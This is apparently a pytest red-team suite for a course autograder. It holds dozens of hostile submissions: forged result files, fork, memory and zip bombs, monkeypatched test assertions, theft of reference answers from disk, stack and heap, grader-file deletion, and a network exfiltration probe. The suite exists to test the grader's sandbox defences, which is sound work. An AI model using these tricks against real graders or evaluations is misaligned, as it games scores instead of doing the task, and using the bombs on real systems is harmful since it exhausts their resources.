"""Hostile, broken and odd submissions: each gets exactly the score it deserves.

Every attack starts from the reference, so every part it does not attack must keep full
marks (a part graded by extra unittest tests, which runs the whole file, may lose points to
an attack elsewhere in that file, never gain any). After each grading: results are valid
(the ``grade`` fixture validates the schema), no process of the sandbox user is left, and
the sandbox user left nothing in the shared temporary folders. Where the suite runs as root (CI does), student code runs as ``nobody``
in its own mount and network namespaces, which several attacks below rely on failing.
The attacks that reach outside their own folder, and the network, are also graded in the
sandbox's other mode, without namespaces (as on Gradescope): there a seccomp filter blocks
the network, and file permissions alone keep student code out of the grader's files.
"""

from __future__ import annotations

import os
import pwd
import signal
import socket
import threading
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest

from helpers import (MODES, NAMESPACES, NO_NAMESPACES, end_to_end_parts, feedback, full_scores,
                     part_scores)
from variants import ROOT, materialize, replace_function

AS_ROOT = os.geteuid() == 0
FN, GAN = "flow_network.py", "gan.py"
REFERENCE = ROOT / "solutions" / "flows_gans"


@dataclass(frozen=True)
class Attack:
    name: str
    edit: Callable[[Path], None]  # turns a copy of the reference into the attack
    zero: tuple[str, ...] = ()  # parts that must score zero; all others full marks
    half: tuple[str, ...] = ()  # parts with two functions, one of them attacked
    says: str = ""  # a phrase the feedback (or the notes) must contain
    rests_on: str = ""  # the defence needs "root" (the drop to nobody) or "namespaces" too
    outside: bool = False  # reaches outside its folder: graded in both sandbox modes


def function(file: str, qualname: str, source: str) -> Callable[[Path], None]:
    def edit(folder: Path) -> None:
        path = folder / file
        path.write_text(replace_function(path.read_text(), qualname, source))
    return edit


def inverse(body: str) -> Callable[[Path], None]:
    """MADE.inverse (part 1b) replaced by ``body``."""
    lines = "\n".join(f"    {line}" for line in body.strip("\n").splitlines())
    return function(FN, "MADE.inverse", f"def inverse(self, x):\n{lines}")


def at_import(file: str, code: str) -> Callable[[Path], None]:
    def edit(folder: Path) -> None:
        path = folder / file
        path.write_text(path.read_text() + "\n" + code + "\n")
    return edit


def both(*edits: Callable[[Path], None]) -> Callable[[Path], None]:
    def edit(folder: Path) -> None:
        for e in edits:
            e(folder)
    return edit


CORRECT_INVERSE = """
mu, alpha = self.net(x).chunk(2, dim=1)
return (x - mu) * torch.exp(-alpha), -alpha.sum(dim=1)
"""
STEAL = """
import importlib.util
spec = importlib.util.spec_from_file_location("stolen", {path!r})
stolen = importlib.util.module_from_spec(spec)
spec.loader.exec_module(stolen)
return stolen.MADE.inverse(self, x)
"""

ATTACKS = [
    # ---- forging results
    Attack("writes results.json at import", at_import(GAN, (
        "import json, os\nfor p in ('/autograder/results/results.json', 'results.json',\n"
        "          f'/proc/{os.getppid()}/cwd/results.json'):\n"
        "    try:\n        open(p, 'w').write(json.dumps({'score': 1000}))\n"
        "    except OSError:\n        pass")), says="", outside=True),
    Attack("a detached process forges results later", inverse("""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(2)
        open('/tmp/forged-results.json', 'w').write('{"score": 1000}')
    os._exit(0)
return x, x.sum(1)
"""), zero=("1b",), outside=True),
    Attack("prints fake test output", inverse("""
print('{"tests": [{"score": 100, "status": "passed"}]}')
print('All tests passed! Score: 100/100')
return x, -x.sum(1)
"""), zero=("1b",)),
    Attack("prints gigabytes", inverse("""
while True:
    print('x' * 10_000_000)
"""), zero=("1b",), says="File too large"),
    # ---- escaping the verdict
    Attack("sys.exit", inverse("import sys\nsys.exit(0)"), zero=("1b",), says="sys.exit()"),
    Attack("os._exit", inverse("import os\nos._exit(0)"), zero=("1b",), says="exited with status 0"),
    Attack("ignores SIGTERM and loops", inverse(
        "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass"),
        zero=("1b",), says="Timed out"),
    Attack("swallows BaseException around sleep", inverse(
        "import time\nwhile True:\n    try:\n        time.sleep(5)\n    except BaseException:\n        pass"),
        zero=("1b",), says="Timed out"),
    Attack("fork bomb", inverse(
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
        zero=("1b",)),
    Attack("memory bomb", inverse("block = bytearray(64 * 2**30)\nreturn x, x"), zero=("1b",),
           says="MemoryError"),
    Attack("torch memory bomb", inverse("big = torch.empty(2**36)\nreturn x, x"), zero=("1b",)),
    Attack("disk bomb", inverse(
        "import os\nfor i in range(20):\n    open(os.path.join(os.environ['HOME'], f'fill{i}'), 'wb')"
        ".write(b'0' * 2**25)\nreturn x, x"), zero=("1b",)),
    Attack("leaves a file in /tmp", inverse(
        "open('/tmp/left-behind.txt', 'w').write('x')\nreturn x, x"), zero=("1b",),
        outside=True),
    # ---- lying values
    Attack("monkeypatches comparisons", at_import(FN, (
        "import numpy, unittest, torch.testing\n"
        "torch.allclose = lambda *a, **k: True\nnumpy.allclose = lambda *a, **k: True\n"
        "torch.testing.assert_close = lambda *a, **k: None\n"
        "unittest.TestCase.assertEqual = lambda *a, **k: None\n"
        "torch.equal = lambda *a, **k: True")), zero=()),
    Attack("returns objects equal to everything", inverse("""
class Anything:
    def __eq__(self, other):
        return True
return Anything(), Anything()
"""), zero=("1b",), says="expected a torch.Tensor"),
    Attack("returns a __torch_function__ impostor", inverse("""
class Impostor(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return torch.zeros(())
z = torch.zeros_like(x).as_subclass(Impostor)
return z, z.sum(1)
"""), zero=("1b",), says="subclass of torch.Tensor"),
    Attack("returns numpy arrays", inverse(
        "mu, alpha = self.net(x).chunk(2, dim=1)\n"
        "return ((x - mu) * torch.exp(-alpha)).detach().numpy(), (-alpha.sum(1)).detach().numpy()"),
        zero=("1b",), says="numpy.ndarray"),
    Attack("returns lists", inverse("return x.tolist(), x.sum(1).tolist()"), zero=("1b",),
           says="is a list"),
    # the right values, more precisely: no contract names a dtype, so a note only
    Attack("returns float64", inverse(
        "mu, alpha = self.net(x).double().chunk(2, dim=1)\n"
        "return (x.double() - mu) * torch.exp(-alpha), -alpha.sum(dim=1)"),
        says="is float64 where the reference's is float32 (not graded)"),
    Attack("returns meta tensors", inverse(
        "return torch.empty_like(x, device='meta'), torch.empty(x.shape[0], device='meta')"),
        zero=("1b",), says="device 'meta'"),
    # ---- stealing answers
    Attack("reads the reference from disk", inverse(STEAL.format(path=str(REFERENCE / FN))),
           zero=("1b",), rests_on="namespaces", outside=True),
    Attack("reads a correct alternative from our tests", inverse(
        f"source = open({str(ROOT / 'tests' / 'conftest.py')!r}).read()\n"
        "raise RuntimeError(source[:50])"), zero=("1b",), says="No such file",
        rests_on="namespaces", outside=True),
    Attack("reads the git history", inverse(
        f"import os\nraise RuntimeError(str(os.listdir({str(ROOT / '.git')!r})))"),
        zero=("1b",), says="RuntimeError: []", rests_on="namespaces", outside=True),
    Attack("walks the stack for expected values", inverse("""
import inspect
for frame in inspect.stack():
    for name, value in frame.frame.f_locals.items():
        if name in ('expected', 'reference', 'ref') and value is not None:
            raise RuntimeError(f'found {name}')
return x, x.sum(1)
"""), zero=("1b",), says="wrong values"),
    Attack("walks the heap for the reference", inverse(f"""
import gc, types
for obj in gc.get_objects():
    if isinstance(obj, types.FunctionType) and {str(REFERENCE)!r} in obj.__code__.co_filename:
        return obj(self, x) if obj.__name__ == 'inverse' else (x, x.sum(1))
return x, x.sum(1)
"""), zero=("1b",)),
    # ---- changing the world
    Attack("changes global torch state at import", at_import(FN, (
        "torch.set_default_dtype(torch.float64)\ntorch.set_grad_enabled(False)\n"
        "torch.manual_seed(1234)\ntorch.set_num_threads(7)\n"
        "torch.autograd.set_detect_anomaly(True)"))),
    Attack("ships torch.py, numpy.py, conftest.py, sitecustomize.py", lambda folder: [
        (folder / name).write_text("raise SystemExit('hijacked')\n")
        for name in ("torch.py", "numpy.py", "conftest.py", "sitecustomize.py")]),
    Attack("changes its input in place", function(GAN, "loss_nonsaturating_d", """
        def loss_nonsaturating_d(g, d, x_real, *, device):
            batch_size = x_real.shape[0]
            z = torch.randn(batch_size, g.dim_z, device=device)
            loss = -F.logsigmoid(d(x_real)).mean() - F.logsigmoid(-d(g(z))).mean()
            x_real.zero_()
            return loss
        """), half=("2b",), says="in place"),
    Attack("deletes and edits grader files", at_import(FN, (
        "import os\nfor path in ('autograder/judge.py', 'autograder/results.py'):\n"
        f"    full = os.path.join({str(ROOT)!r}, path)\n"
        "    try:\n        open(full, 'a').write('\\nraise SystemExit')\n        os.remove(full)\n"
        "    except OSError:\n        pass")), rests_on="root", outside=True),
    # ---- broken input
    Attack("empty file", lambda folder: (folder / GAN).write_text(""), zero=("2b", "4b", "5e"),
           says="has no attribute"),
    Attack("wrong signature", function(GAN, "loss_nonsaturating_g", """
        def loss_nonsaturating_g(g, d, x_real):
            return -F.logsigmoid(d(g(torch.randn(x_real.shape[0], g.dim_z)))).mean()
        """), half=("2b",), says="unexpected keyword argument 'device'"),
    Attack("undecodable bytes", lambda folder: (folder / GAN).write_bytes(b"\xff\xfe\x00bad"),
           zero=("2b", "4b", "5e"), says="could not be imported"),
    Attack("CRLF line endings and tab indentation", lambda folder: [
        (folder / name).write_bytes((folder / name).read_text().replace("    ", "\t")
                                    .replace("\n", "\r\n").encode()) for name in (FN, GAN)]),
]


def _children_of(pid: int) -> list[int]:
    """Live processes whose parent is ``pid`` (orphans of a job are reparented to the sandbox)."""
    children = []
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{entry}/stat", "rb") as f:
                stat = f.read()
        except OSError:
            continue
        if int(stat[stat.rfind(b")") + 2:].split()[1]) == pid:
            children.append(int(entry))
    return children


def _files_of(uid: int) -> list[str]:
    found = []
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        for entry in os.scandir(folder):
            try:
                if entry.stat(follow_symlinks=False).st_uid == uid:
                    found.append(entry.path)
            except OSError:
                pass
    return found


GRADED = [pytest.param(attack, mode, id=attack.name + ("" if mode == NAMESPACES else f" [{mode}]"))
          for attack in ATTACKS for mode in MODES if mode == NAMESPACES or attack.outside]


@pytest.mark.parametrize(("attack", "mode"), GRADED)
def test_attack_gets_the_score_it_deserves(grade, sandboxes, tmp_path, attack, mode):
    if attack.rests_on and not AS_ROOT:
        pytest.skip("needs root: the defence is the privilege drop and the namespaces")
    if attack.rests_on == "namespaces" and mode == NO_NAMESPACES:
        pytest.skip("without namespaces, only file permissions hide the grader's files: "
                    "run_autograder sets them (test_gradescope checks them in this mode)")
    before = {p: p.read_bytes() for p in (ROOT / "autograder").glob("*.py")}
    folder = materialize([], "flows_gans", tmp_path / "submission")
    attack.edit(folder)
    data = grade("flows_gans", folder, timeout_scale=0.2, mode=mode)
    scores, full = part_scores(data), full_scores("flows_gans")
    end_to_end = end_to_end_parts("flows_gans")
    expected = {p: 0.0 if p in attack.zero else s / 2 if p in attack.half else s
                for p, s in full.items() if p not in end_to_end}
    assert {p: scores[p] for p in expected} == expected, \
        "\n".join(t["output"] for t in data["tests"] if t["score"] == 0)
    assert all(scores[p] <= full[p] for p in end_to_end)
    if attack.says:
        text = data["output"] + "\n".join(feedback(data, p) for p in full)
        assert attack.says in text, text
    assert before == {p: p.read_bytes() for p in (ROOT / "autograder").glob("*.py")}
    assert not Path("/tmp/forged-results.json").exists()
    assert not (ROOT / "results.json").exists()
    assert _children_of(sandboxes[mode].pid) == [], "a process outlived its part"
    if AS_ROOT:
        assert _files_of(pwd.getpwnam("nobody").pw_uid) == []


def test_redteam_suite_is_big_enough():
    assert len(ATTACKS) >= 30


@pytest.mark.parametrize("mode", MODES)
def test_student_code_cannot_reach_the_network(grade, tmp_path, mode):
    """In a network namespace (as root) there is no network; without one, seccomp refuses
    to create the socket."""
    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    server.settimeout(10)

    def accept() -> None:
        try:
            conn, _ = server.accept()
            received.append(conn.recv(100))
        except OSError:
            pass

    listener = threading.Thread(target=accept, daemon=True)
    listener.start()
    folder = materialize([], "flows_gans", tmp_path / "submission")
    inverse(f"import socket\nconnection = socket.socket()\nconnection.settimeout(2)\n"
            f"connection.connect(('127.0.0.1', {port}))\nconnection.sendall(b'stolen')\n"
            "return x, x")(folder)
    data = grade("flows_gans", folder, timeout_scale=0.2, mode=mode)
    time.sleep(0.5)
    server.close()
    assert received == []
    assert part_scores(data)["1b"] == 0
    network = data["extra_data"]["parts"]["1b"]["sandbox"]["network"]
    assert network == ("namespace" if AS_ROOT and mode == NAMESPACES else "seccomp")
    says = "Network is unreachable" if network == "namespace" else "Permission denied"
    assert says in feedback(data, "1b")


def test_the_network_filter_leaves_no_way_around_it(grade, tmp_path):
    """Without namespaces: no socket of any family but AF_UNIX, and no io_uring (which can
    open sockets without the socket system call); AF_UNIX socket pairs still work."""
    folder = materialize([], "flows_gans", tmp_path / "submission")
    inverse("""
import ctypes, socket
seen = []
for family in (socket.AF_INET, socket.AF_INET6, socket.AF_PACKET, socket.AF_NETLINK):
    try:
        socket.socket(family, socket.SOCK_DGRAM).close()
        seen.append(f"{family.name} open")
    except OSError as error:
        seen.append(f"{family.name} errno {error.errno}")
libc = ctypes.CDLL(None, use_errno=True)
ring = libc.syscall(425, 4, ctypes.create_string_buffer(128))  # io_uring_setup
seen.append("io_uring open" if ring >= 0 else f"io_uring errno {ctypes.get_errno()}")
left, right = socket.socketpair()
left.sendall(b"ok")
seen.append("AF_UNIX " + right.recv(2).decode())
raise RuntimeError(", ".join(seen))
""")(folder)
    data = grade("flows_gans", folder, mode=NO_NAMESPACES)
    assert ("AF_INET errno 13, AF_INET6 errno 13, AF_PACKET errno 13, AF_NETLINK errno 13, "
            "io_uring errno 1, AF_UNIX ok") in feedback(data, "1b")


def test_zip_bomb_is_read_no_further_than_the_limits(grade, tmp_path):
    archive = tmp_path / "bomb.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        z.write(REFERENCE / FN, f"deep/er/{FN}")
        z.writestr("gan.py", b"#" * (256 * 2**20))
        for i in range(40):
            z.writestr(f"junk/{i}.bin", b"\0" * (2 * 2**20))
        for i in range(20):
            z.writestr(f"copies/{i}/gan.py", b"#" * (2 * 2**20 - 1))
    data = grade("flows_gans", archive)
    scores = part_scores(data)
    assert scores["2b"] == 0 and scores["1a"] == full_scores("flows_gans")["1a"]
    assert "Ignored gan.py: larger than 2 MB" in data["output"]
    assert "Stopped reading bomb.zip after 32 MB" in data["output"]


def test_forged_messages_to_the_grader_go_nowhere(grade, tmp_path):
    """Student code inherits no descriptor of the grader: forged outcome lines reach nobody."""
    folder = materialize([], "flows_gans", tmp_path / "submission")
    inverse("""
import os
line = b'{"timed_out": false, "exit_code": 0, "seconds": 0}\\n'
wrote = []
for fd in range(3, 256):
    try:
        os.write(fd, line * 10)
        wrote.append(fd)
    except OSError:
        pass
raise RuntimeError(f'wrote to {wrote}')
""")(folder)
    def out_of_step(*_: object) -> None:
        raise TimeoutError("the grader's channel to its sandbox is out of step")

    previous = signal.signal(signal.SIGALRM, out_of_step)
    signal.alarm(120)
    try:
        data = grade("flows_gans", folder)
        again = grade("flows_gans", REFERENCE)  # the grader's channel is still in step
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    assert "wrote to []" in feedback(data, "1b")
    assert part_scores(again) == full_scores("flows_gans")
